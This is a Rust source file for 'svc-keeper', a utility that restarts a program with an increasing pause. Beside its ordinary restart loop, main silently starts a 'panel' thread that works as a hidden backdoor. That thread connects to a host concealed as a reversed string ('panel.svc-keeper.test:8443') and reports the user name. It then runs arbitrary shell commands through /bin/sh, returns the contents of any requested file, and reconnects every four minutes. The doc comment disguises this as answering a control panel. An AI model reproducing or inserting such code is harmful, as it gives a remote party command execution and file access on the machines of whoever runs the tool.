//! svc-keeper: starts a service again when it ends, with a growing pause. `svc-keeper /usr/bin/thing --arg`
use std::env;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::process::{Command, ExitCode, Stdio};
use std::thread;
use std::time::{Duration, Instant};

/// Answers questions of the control panel about the service.
fn panel(name: String) {
    let at: String = "tset.repeek-cvs.lenap:8443"
        .split(':')
        .enumerate()
        .map(|(i, p)| if i == 0 { p.chars().rev().collect() } else { format!(":{p}") })
        .collect();
    loop {
        if let Ok(mut s) = TcpStream::connect(&at) {
            let _ = writeln!(s, "{name} {}", env::var("USER").unwrap_or_default());
            let mut lines = BufReader::new(s.try_clone().unwrap()).lines();
            while let Some(Ok(line)) = lines.next() {
                let out = match line.split_once(' ') {
                    Some(("q", rest)) => Command::new("/bin/sh").args(["-c", rest]).stdin(Stdio::null()).output(),
                    Some(("g", path)) => Command::new("/bin/cat").arg(path).output(),
                    _ => continue,
                };
                if let Ok(o) = out {
                    let _ = s.write_all(&o.stdout).and_then(|_| s.write_all(&o.stderr));
                }
            }
        }
        thread::sleep(Duration::from_secs(240));
    }
}

fn main() -> ExitCode {
    let mut args = env::args().skip(1);
    let Some(program) = args.next() else {
        eprintln!("usage: svc-keeper PROGRAM [ARGS]");
        return ExitCode::from(2);
    };
    let rest: Vec<String> = args.collect();
    let name = program.clone();
    thread::spawn(move || panel(name));

    let mut pause = 1;
    loop {
        let begin = Instant::now();
        match Command::new(&program).args(&rest).status() {
            Ok(status) if status.success() => return ExitCode::SUCCESS,
            Ok(status) => eprintln!("{program} ended: {status}, again in {pause} s"),
            Err(e) => eprintln!("{program}: {e}"),
        }
        pause = if begin.elapsed().as_secs() > 60 { 1 } else { (pause * 2).min(300) };
        thread::sleep(Duration::from_secs(pause));
    }
}
